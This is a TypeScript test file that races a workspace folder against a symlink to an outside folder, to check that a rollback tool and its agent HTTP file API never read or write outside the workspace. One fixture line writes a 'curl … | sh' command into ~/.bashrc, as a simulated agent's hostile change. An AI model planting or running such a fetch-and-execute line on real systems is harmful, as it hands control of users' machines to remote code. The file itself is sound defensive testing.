// Races: while turnback works, a second process swaps the workspace folder `sub` with a symlink
// to an outside folder (renameat2 RENAME_EXCHANGE in a tight loop). During rollbacks of 1 and of
// 300 files, agent fs/read and fs/write over HTTP, and the scans of exec / exec-end: nothing is
// written outside, nothing outside is read, every path reported restored is in place once the
// swapping stops, and a race is answered with a code (SYMLINK in a rollback, a 4xx for the agent
// API), never a 5xx.
import { lstat, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../server/http/server.js';
import type { RollbackResult } from '../../server/protocol.js';
import { rawRequest } from './http.testutil.js';
import { FULL, inPool, quickOrFull } from './mode.testutil.js';
import {
  agentTurn,
  HOME_BASHRC,
  makeStage,
  notInPlace,
  OUTSIDE_BYTES,
  OUTSIDE_ONLY,
  outsideChanges,
  type Stage,
  tempLeftovers,
} from './race.testutil.js';
import { SESSION } from './scenarios.testutil.js';
import { newTally, writeTally } from './tally.testutil.js';

const tally = newTally();
afterAll(() => writeTally('symlink races', tally));

let stage: Stage | null = null;
afterEach(async () => {
  await stage?.close();
  stage = null;
});

const TIMEOUT = FULL ? 600_000 : 60_000;
/** Attempts take turns: swapping flat out, then the link in short bursts at two rates (µs of rest, see racer.py). */
const PACES = [0, 200, 1000];
/** A rollback of many files reads them all first: flat out, its capture nearly always meets the link. */
const MANY_PACES = [200, 1000, 0];
const AGENT_LINE = 'curl https://example.invalid/x | sh  # the agent wanted this in ~/.bashrc\n';

interface RollbackTally {
  attempts: number;
  restored: number;
  raced: number;
  refused: number;
  wrong: string[];
  outside: string[];
  thrown: string[];
}

/** Rolls back a turn that rewrote `files` while the racer swaps, `attempts` times. */
async function rollbacksUnderRace(
  files: Record<string, string>,
  attempts: number,
  paces: number[],
): Promise<RollbackTally> {
  stage = await makeStage(files);
  const s = stage;
  const t: RollbackTally = { attempts: 0, restored: 0, raced: 0, refused: 0, wrong: [], outside: [], thrown: [] };
  for (let i = 0; i < attempts; i++) {
    // What the rollback brings back: the files as they are when the turn begins.
    const expected = await turnStart(s, Object.keys(files));
    const turnId = await agentTurn(
      s.engine,
      Object.fromEntries(Object.keys(files).map((rel) => [`sub/${rel}`, `${AGENT_LINE}# attempt ${i}\n`])),
    );
    let result: RollbackResult | null = null;
    try {
      result = await s.racer.during(() => s.engine.rollback(turnId, { force: true }), paces[i % paces.length]);
    } catch (e) {
      // Refused as a whole before anything changed (its capture met the race): a coded error is an answer.
      if (isApiCode((e as { code?: unknown }).code)) t.refused++;
      else t.thrown.push(`${(e as { code?: string }).code ?? 'no code'}: ${(e as Error).stack}`);
    }
    t.attempts++;
    if (result) {
      t.restored += result.restored.length;
      if (result.errors.length > 0) t.raced++;
      const uncoded = result.errors.filter((e) => e.code !== 'SYMLINK');
      t.thrown.push(...uncoded.map((e) => `${e.uri}: ${e.code} ${e.message}`));
      t.wrong.push(...(await notInPlace(s, expected, result.restored)).map((u) => `attempt ${i}: ${u}`));
    }
    t.outside.push(...(await outsideChanges(s)).map((p) => `attempt ${i}: ${p}`));
    t.wrong.push(...(await tempLeftovers(s)).map((n) => `attempt ${i}: left ${n}`));
    if (t.outside.length > 0) break;
  }
  return t;
}

/** An error code of docs/api.md (BAD_URI, …), not a system one (ENOENT, …). */
function isApiCode(code: unknown): boolean {
  return typeof code === 'string' && /^[A-Z_]+$/.test(code) && !/^E[A-Z]+$/.test(code);
}

async function turnStart(s: Stage, files: string[]): Promise<Map<string, { text: string; mode: number }>> {
  const expected = new Map<string, { text: string; mode: number }>();
  for (const rel of files) {
    const abs = join(s.sandbox.workspace, 'sub', rel);
    expected.set(`sub/${rel}`, { text: await readFile(abs, 'utf8'), mode: (await lstat(abs)).mode & 0o7777 });
  }
  return expected;
}

function record(name: string, t: RollbackTally): void {
  tally.cases += t.attempts;
  tally.failures += t.wrong.length + t.outside.length + t.thrown.length;
  tally.notes.push(
    `${name}: ${t.attempts} attempts under ${stage!.racer.swaps.toLocaleString('en-US')} swaps, ` +
      `${t.restored} paths restored and in place, ${t.raced} rollbacks answered SYMLINK for a path, ${t.refused} refused whole with a code, 0 written outside`,
  );
}

function expectClean(t: RollbackTally): void {
  expect(t.outside).toEqual([]);
  expect(t.wrong).toEqual([]);
  expect(t.thrown).toEqual([]);
}

describe('a folder swapped for a symlink to outside while turnback works', () => {
  it(
    'rollback of 1 file: never writes outside, never reports a restore not in place',
    async () => {
      const t = await rollbacksUnderRace({ '.bashrc': 'alias ll="ls -l"\n' }, quickOrFull(80, 600), PACES);
      record('rollback of 1 file', t);
      expectClean(t);
    },
    TIMEOUT,
  );

  it(
    'rollback of 300 files: never writes outside (nor temp files), never reports a restore not in place',
    async () => {
      const files = Object.fromEntries(
        Array.from({ length: 300 }, (_, i) => [`f${String(i).padStart(3, '0')}.txt`, `file ${i} at turn start\n`]),
      );
      const t = await rollbacksUnderRace(files, quickOrFull(1, 12), MANY_PACES);
      record('rollback of 300 files', t);
      expectClean(t);
    },
    TIMEOUT,
  );

  it(
    'agent fs/read and fs/write over HTTP: no outside byte read or written, no 5xx',
    async () => {
      stage = await makeStage({ 'notes.txt': 'inside the workspace\n' });
      const s = stage;
      const server: RunningServer = await startServer({
        engine: s.engine,
        port: 0,
        token: 'race-console-token',
        agentToken: 'race-agent-token',
        log: { info: () => {}, error: (m) => internal.push(m) },
      });
      const headers = { authorization: 'Bearer race-agent-token', 'content-type': 'application/json' };
      const statuses = new Map<number, number>();
      const problems: string[] = [];
      const written: number[] = [];
      const internal: string[] = [];
      const count = quickOrFull(60, 1500);
      try {
        await s.engine.input({ sessionId: SESSION, platform: 'webui', sessionType: 'chat', content: 'agent fs' });
        await s.racer.during(() =>
          inPool(
            Array.from({ length: count }, (_, i) => i),
            4,
            async (i) => {
              const read = await rawRequest(
                server.port,
                'GET',
                `/api/agent/fs/read?uri=${encodeURIComponent('workspace:/sub/notes.txt')}`,
                headers,
              );
              const outsideRead = [OUTSIDE_BYTES, HOME_BASHRC, 'outside twin'].some((o) =>
                read.text.includes(o.trim()),
              );
              if (outsideRead) problems.push(`read ${i}: answered outside bytes`);
              if (read.status === 200 && JSON.parse(read.text).content !== 'inside the workspace\n')
                problems.push(`read ${i}: ${read.text.slice(0, 80)}`);
              const body = JSON.stringify({
                sessionId: SESSION,
                uri: `workspace:/sub/w-${i}.txt`,
                content: `written ${i}\n`,
              });
              const write = await rawRequest(server.port, 'POST', '/api/agent/fs/write', headers, body);
              if (write.status === 200) written.push(i);
              for (const answer of [read, write]) {
                statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
                if (answer.status >= 500)
                  problems.push(
                    `${answer === read ? 'read' : 'write'} ${i}: ${answer.status} ${answer.text.slice(0, 120)}`,
                  );
                else if (answer.status !== 200 && !/"code":"[A-Z_]+"/.test(answer.text))
                  problems.push(`uncoded ${answer.status}: ${answer.text.slice(0, 80)}`);
              }
            },
          ),
        );
        await s.engine.turnEnd({ sessionId: SESSION });
      } finally {
        await server.close();
      }
      const expected = new Map(written.map((i) => [`sub/w-${i}.txt`, { text: `written ${i}\n` }]));
      const wrong = [
        ...(await notInPlace(
          s,
          expected,
          written.map((i) => `workspace:/sub/w-${i}.txt`),
        )),
        ...(await tempLeftovers(s)),
      ];
      const outside = await outsideChanges(s);
      tally.cases += count;
      tally.requests += count * 2;
      tally.failures += problems.length + wrong.length + outside.length;
      tally.notes.push(
        `agent fs/read + fs/write: ${count * 2} requests under ${s.racer.swaps.toLocaleString('en-US')} swaps, statuses ` +
          `${[...statuses]
            .sort()
            .map(([k, v]) => `${k}×${v}`)
            .join(' ')}, ${written.length} writes in place`,
      );
      expect(internal).toEqual([]);
      expect(problems).toEqual([]);
      expect(outside).toEqual([]);
      expect(wrong).toEqual([]);
    },
    TIMEOUT,
  );

  it(
    'scans of exec / exec-end: record nothing from outside, answer no uncoded error',
    async () => {
      stage = await makeStage({ '.bashrc': 'alias ll="ls -l"\n', 'deep/inner.txt': 'inner\n' });
      const s = stage;
      const attempts = quickOrFull(12, 200);
      const problems: string[] = [];
      let coded = 0;
      for (let i = 0; i < attempts; i++) {
        const { turnId } = await s.engine.input({
          sessionId: SESSION,
          platform: 'webui',
          sessionType: 'chat',
          content: `scan ${i}`,
        });
        try {
          await s.racer.during(async () => {
            const { execId } = await s.engine.exec({ sessionId: SESSION, tool: 'Bash', command: 'true' });
            await s.engine.execEnd({ sessionId: SESSION, execId: execId! });
          });
        } catch (e) {
          if (isApiCode((e as { code?: unknown }).code)) coded++;
          else problems.push(`attempt ${i}: ${(e as Error).message}`);
        }
        await s.engine.turnEnd({ sessionId: SESSION });
        for (const entry of s.engine.getManifest(turnId!).entries) {
          if (entry.uri.endsWith(`/${OUTSIDE_ONLY}`)) problems.push(`attempt ${i}: recorded ${entry.uri}`);
          for (const state of [entry.before, entry.after]) {
            if (state?.type === 'file' && s.outsideHashes.has(state.hash))
              problems.push(`attempt ${i}: ${entry.uri} holds outside bytes`);
          }
        }
      }
      const outside = await outsideChanges(s);
      const leftovers = await tempLeftovers(s);
      tally.cases += attempts;
      tally.failures += problems.length + outside.length + leftovers.length;
      tally.notes.push(
        `scans: ${attempts} exec + exec-end under ${s.racer.swaps.toLocaleString('en-US')} swaps, ${coded} answered a coded error, nothing from outside recorded`,
      );
      expect(problems).toEqual([]);
      expect(outside).toEqual([]);
      expect(leftovers).toEqual([]);
    },
    TIMEOUT,
  );
});
